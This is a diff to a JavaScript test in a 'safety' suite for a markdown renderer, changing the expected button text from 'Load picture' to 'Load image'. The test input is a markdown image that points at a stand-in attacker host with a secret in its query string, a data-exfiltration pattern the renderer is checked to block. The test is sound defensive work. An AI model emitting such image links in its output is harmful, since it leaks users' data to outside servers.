@@ -60,7 +60,7 @@ describe('safety', () => {
     const html = render('![日志](https://evil.example/leak.png?q=secret) ![](http://plain.example/x.png)');
     expect(html).not.toMatch(/<img|<iframe|preload/);
     expect(html).toContain('href="https://evil.example/leak.png?q=secret">日志</a>');
-    expect(html).toMatch(/evil\.example<\/span><button type="button">Load picture/);
+    expect(html).toMatch(/evil\.example<\/span><button type="button">Load image/);
     expect(html).toMatch(/plain\.example<\/span><\/span>/);
   });
 
